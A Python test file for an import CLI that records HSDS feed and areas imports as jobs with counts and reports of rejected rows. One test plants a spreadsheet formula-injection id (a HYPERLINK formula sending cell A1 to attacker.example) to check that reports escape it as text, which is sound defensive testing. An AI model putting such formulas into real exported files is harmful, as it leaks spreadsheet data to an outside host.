"""Issue 22: every ``relay import`` run is an import job the operator sees: areas and HSDS
feeds as facilities are, with their counts and their report of rejected rows (fixed phrases
and source ids only). The commands commit for real, so each test removes what they wrote."""

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.test_import_facilities import run_import


@pytest.fixture
async def source(owner_engine: AsyncEngine) -> AsyncIterator[str]:
    """A source name no other run uses; its jobs are removed afterwards."""
    name = f"cli-job-{uuid.uuid4().hex[:10]}"
    yield name
    async with owner_engine.begin() as connection:
        await connection.execute(
            text("DELETE FROM import_job WHERE source = :source"), {"source": name}
        )


async def job_of(owner_engine: AsyncEngine, source: str) -> dict[str, Any]:
    async with owner_engine.connect() as connection:
        rows = (
            await connection.execute(
                text("SELECT kind, file, counts, report FROM import_job WHERE source = :source"),
                {"source": source},
            )
        ).all()
    assert len(rows) == 1, rows
    kind, file, counts, report = rows[0]
    return {"kind": kind, "file": file, "counts": counts, "report": report}


async def test_an_hsds_feed_is_recorded_as_a_job(
    owner_engine: AsyncEngine, source: str, tmp_path: Path
) -> None:
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "organizations.csv").write_text("id,name\no1,\n")  # nameless: refused
    # A feed's id that a spreadsheet would run as a formula (CWE-1236): the reports say it
    # as text, a quote first.
    formula = '=HYPERLINK("http://attacker.example/?"&A1;"open me")'
    quoted = formula.replace('"', '""')
    (feed / "services.csv").write_text(
        f'id,organization_id,name\ns1,o1,Counselling\n"{quoted}",o2,Legal aid\n'
    )
    written_to = tmp_path / "report.csv"
    done = run_import("hsds", str(feed), "--source", source, "--report", str(written_to), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["rejected"] == 3
    job = await job_of(owner_engine, source)
    assert (job["kind"], job["file"]) == ("hsds", "feed")
    assert {key: job["counts"][key] for key in ("rows_read", "created", "updated")} == {
        "rows_read": 3,
        "created": 0,
        "updated": 0,
    }
    assert job["counts"]["rejected"] == 3
    lines = job["report"].splitlines()
    assert lines[0] == "row,source_id,outcome,reason,detail"
    assert "0,o1,rejected,an organization needs an id and a name,organizations" in lines
    assert "0,s1,rejected,its organization is not in the feed,services" in lines
    rows = list(csv.reader(io.StringIO(job["report"])))
    assert [row[1] for row in rows if row[1].endswith('"open me")')] == [f"'{formula}"]
    # The file the command writes says it as text too.
    assert json.loads(done.stdout)["report"] == str(written_to)
    with written_to.open(encoding="utf-8", newline="") as handle:
        assert ["services", f"'{formula}", "its organization is not in the feed"] in list(
            csv.reader(handle)
        )


async def test_an_areas_file_is_recorded_as_a_job(
    owner_engine: AsyncEngine, source: str, tmp_path: Path
) -> None:
    path = tmp_path / f"{source}.geojson"
    point = {
        "type": "Feature",
        "properties": {"shapeName": "A point, not an area"},
        "geometry": {"type": "Point", "coordinates": [47.5, -18.9]},
    }
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [point]}))
    done = run_import("areas", str(path), "--level", "3", "--json")
    assert done.returncode == 0, done.stderr
    job = await job_of(owner_engine, source)
    assert (job["kind"], job["file"]) == ("areas", path.name)
    assert (job["counts"]["created"], job["counts"]["rejected"]) == (0, 1)
    assert job["report"].splitlines()[1].endswith(",rejected,not a polygon,")
